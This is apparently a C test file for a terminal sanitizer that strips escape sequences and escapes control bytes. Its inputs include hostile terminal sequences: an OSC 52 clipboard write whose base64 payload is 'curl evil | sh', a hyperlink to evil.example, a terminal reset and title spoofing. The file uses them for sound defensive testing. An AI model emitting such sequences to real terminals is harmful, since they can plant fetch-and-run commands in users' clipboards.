/* test-term.c - the terminal filter: escape sequences removed whole,
 * control bytes shown escaped, valid UTF-8 intact. */
#include <stdbool.h>
#include <string.h>

#include "vf_test.h"
#include "vramfit/base/term.h"

/* The filter of a literal (which may hold NUL bytes: n given). */
static const char *f(const char *s, size_t n)
{
	static char out[4096];
	return vf_term_sanitize(out, sizeof out, s, n);
}
#define F(lit) f(lit, sizeof lit - 1)

/* No ESC, no C0 but \n \t, no DEL, no C1 (raw or UTF-8 encoded). */
static bool clean(const char *s)
{
	const unsigned char *u = (const unsigned char *)s;
	for (size_t i = 0; u[i]; i++) {
		if ((u[i] < 0x20 && u[i] != '\n' && u[i] != '\t') || u[i] == 0x7f)
			return false;
		if (u[i] == 0xc2 && u[i + 1] >= 0x80 && u[i + 1] <= 0x9f)
			return false;
		if (u[i] >= 0x80 && u[i] <= 0x9f && (i == 0 || u[i - 1] < 0x80))
			return false; /* a raw C1 byte, not a continuation byte */
	}
	return true;
}

static void test_colour_sgr_stripped(void)
{
	CHECK_STR(F("\x1b[1;31mCUDA out of memory\x1b[0m tried"), "CUDA out of memory tried");
	CHECK_STR(F("\x1b[2J\x1b[H\x1b[?25lcleared"), "cleared");
}

static void test_osc52_clipboard_removed(void)
{
	/* OSC 52 writes "curl evil | sh" to the clipboard: BEL and ST forms. */
	const char *a = F("step 1\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07 done");
	CHECK_STR(a, "step 1 done");
	const char *b = F("x\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x1b\\y");
	CHECK_STR(b, "xy");
}

static void test_osc8_hyperlink_keeps_its_text(void)
{
	CHECK_STR(F("see \x1b]8;;https://evil.example/\x1b\\the docs\x1b]8;;\x1b\\ now"),
		  "see the docs now");
	CHECK_STR(F("\x1b]0;fake title\x07ok"), "ok");
}

static void test_dcs_apc_pm_sos_removed(void)
{
	CHECK_STR(F("a\x1bP$q\"p\x1b\\b"), "ab");       /* DCS DECRQSS */
	CHECK_STR(F("a\x1b_apc payload\x1b\\b"), "ab");  /* APC */
	CHECK_STR(F("a\x1b^pm\x1b\\b"), "ab");           /* PM */
	CHECK_STR(F("a\x1bXsos\x1b\\b"), "ab");          /* SOS */
	CHECK_STR(F("a\x1b" "c" "b"), "ab");             /* RIS: reset the terminal */
	CHECK_STR(F("a\x1b(Bb"), "ab");                  /* charset select (nF) */
}

static void test_8bit_c1_sequences(void)
{
	/* Raw C1 bytes are not UTF-8: shown, never obeyed. */
	CHECK_STR(F("a\x9b" "2Jb"), "a\\x9b2Jb");            /* raw 8-bit CSI */
	CHECK_STR(F("a\x9d" "52;c;eA==\x9c" "b"), "a\\x9d52;c;eA==\\x9cb"); /* raw OSC ... ST */
	CHECK_STR(F("a\x90q\x9c" "b"), "a\\x90q\\x9cb");    /* raw 8-bit DCS */
	CHECK_STR(F("a\xc2\x9b" "31mb"), "ab");            /* U+009B CSI, UTF-8 encoded */
	CHECK_STR(F("a\xc2\x9d" "8;;u\xc2\x9c" "b"), "ab"); /* U+009D OSC ... U+009C ST */
	CHECK_STR(F("a\xc2\x85" "b"), "a\\u0085b");        /* NEL: shown escaped */
	CHECK_STR(F("a\x85" "b"), "a\\x85b");              /* raw NEL */
	CHECK_STR(F("a\x9c" "b"), "a\\x9cb");              /* a lone ST */
}

static void test_controls_shown_escaped(void)
{
	CHECK_STR(F("a\rb\bc\x7f" "d"), "a\\x0db\\x08c\\x7fd");
	CHECK_STR(F("a\0b"), "a\\x00b");
	CHECK_STR(F("tab\there\nnext"), "tab\there\nnext");
	CHECK_STR(F("lone \x1b\x01 esc"), "lone \\x1b\\x01 esc");
	CHECK_STR(F("\x07"), "\\x07");
}

static void test_split_and_unterminated(void)
{
	/* Unterminated: removed to the end of the text, or of the line. */
	CHECK_STR(F("ok\x1b]52;c;Y3VybA=="), "ok");
	CHECK_STR(F("ok\x1b]52;c;Y3VybA==\nnext line"), "ok\nnext line");
	CHECK_STR(F("ok\x1b[31"), "ok");
	CHECK_STR(F("ok\x1b"), "ok");
	CHECK_STR(F("ok\xc2\x9d"), "ok");
	CHECK_STR(F("ok\xc2"), "ok\\xc2");
	/* Split across two calls: the tail shows as text, never as a control. */
	CHECK_STR(F("step 3\x1b]5"), "step 3");
	CHECK_STR(F("2;c;Y3VybA==\x07 step 4"), "2;c;Y3VybA==\\x07 step 4");
	/* An ESC inside a string ends it and starts what follows. */
	CHECK_STR(F("a\x1b]0;t\x1b[31mb"), "ab");
}

static void test_utf8_intact_invalid_escaped(void)
{
	const char *u = "Größe 😀 日本語 ś Ŝ €";
	CHECK_STR(f(u, strlen(u)), u);
	CHECK_STR(F("a\xff\xfe" "b"), "a\\xff\\xfeb");
	CHECK_STR(F("\xc0\xaf"), "\\xc0\\xaf");         /* overlong '/' */
	CHECK_STR(F("\xed\xa0\x80"), "\\xed\\xa0\\x80"); /* a surrogate */
	CHECK_STR(F("\xf4\x90\x80\x80"), "\\xf4\\x90\\x80\\x80"); /* past U+10FFFF */
	/* A string's payload with 0x9c inside a valid character does not end it. */
	CHECK_STR(F("a\x1b]0;\xc5\x9c\x07" "b"), "ab");
}

static void test_idempotent_and_clean(void)
{
	static const char *const in[] = {
		"\x1b]52;c;eA==\x07\x1b[31m\x9b" "1m\xc2\x9b" "2J\x01\x7f\xff\xc2\x85z",
		"\x1bP\x1b\\\x1b]8;;x\x9c\x1b_\x1b^\x1bX\x9d\x90\x98\x9e\x9f",
		"\x1b\x1b\x1b[\x1b]\x1bP",
	};
	for (size_t k = 0; k < sizeof in / sizeof in[0]; k++) {
		char once[512], twice[512];
		vf_term_safe(once, sizeof once, in[k]);
		vf_term_safe(twice, sizeof twice, once);
		CHECK(clean(once));
		CHECK_STR(twice, once);
	}
}

static void test_cut_and_buf(void)
{
	char small[8];
	CHECK_STR(vf_term_safe(small, sizeof small, "abcdefghij"), "abcdefg");
	CHECK_STR(vf_term_safe(small, sizeof small, "abcde\x01z"), "abcde"); /* no half escape */
	CHECK_STR(vf_term_safe(small, sizeof small, "abcde€"), "abcde");     /* no half character */
	CHECK_STR(vf_term_safe(small, sizeof small, NULL), "");
	struct vf_buf b;
	struct vf_error err = {0};
	vf_buf_init(&b, 0);
	CHECK(vf_term_sanitize_buf(&b, "", 0, &err) == VF_OK);
	CHECK_STR(b.data, "");
	const char *in = "x\x1b]52;c;eA==\x07y\x02";
	CHECK(vf_term_sanitize_buf(&b, in, strlen(in), &err) == VF_OK);
	CHECK_STR(b.data, "xy\\x02");
	vf_buf_release(&b);
	vf_buf_init(&b, 4);
	CHECK(vf_term_sanitize_buf(&b, "abc\x01", 4, &err) == VF_ERR); /* past the cap */
	vf_buf_release(&b);
}

int main(void)
{
	RUN(test_colour_sgr_stripped);
	RUN(test_osc52_clipboard_removed);
	RUN(test_osc8_hyperlink_keeps_its_text);
	RUN(test_dcs_apc_pm_sos_removed);
	RUN(test_8bit_c1_sequences);
	RUN(test_controls_shown_escaped);
	RUN(test_split_and_unterminated);
	RUN(test_utf8_intact_invalid_escaped);
	RUN(test_idempotent_and_clean);
	RUN(test_cut_and_buf);
	return vf_test_done();
}
